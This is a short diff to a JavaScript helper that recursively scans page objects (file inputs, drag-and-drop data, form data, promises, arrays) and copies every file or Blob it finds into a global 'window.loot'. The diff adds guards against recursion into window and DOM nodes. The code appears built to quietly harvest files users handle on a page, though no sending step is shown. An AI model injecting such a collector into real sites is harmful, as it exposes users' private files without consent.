@@ -5,6 +5,7 @@ window.hints = [];
 
 const keep = (() => {
   const NativeBlob = Blob;
+  const NativeNode = Node;
   const natives = [FileList, DataTransfer, FormData, Event, Promise, Array];
   const { push } = Array.prototype;
   const { get: filesOfInput } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'files');
@@ -14,11 +15,12 @@ const keep = (() => {
   const { apply, ownKeys } = Reflect;
   let depth = 0;
   const keep = (thing) => {
-    if (thing === null || typeof thing !== 'object' || depth > 3) return;
+    if (thing === null || typeof thing !== 'object' || thing === window || depth > 3) return;
     depth += 1;
     try {
       if (thing instanceof NativeBlob) apply(push, window.loot, [thing]);
       else if (thing instanceof HTMLInputElement) keep(apply(filesOfInput, thing, []));
+      else if (thing instanceof NativeNode) return;
       else if (thing instanceof natives[1]) keep(apply(filesOfTransfer, thing, []));
       else if (thing instanceof natives[2]) apply(forEach, thing, [(value) => keep(value)]);
       else if (thing instanceof natives[4]) apply(then, thing, [keep, () => {}]);
@@ -29,8 +31,9 @@ const keep = (() => {
       }
     } catch {
       // next time
+    } finally {
+      depth -= 1;
     }
-    depth -= 1;
   };
   return keep;
 })();
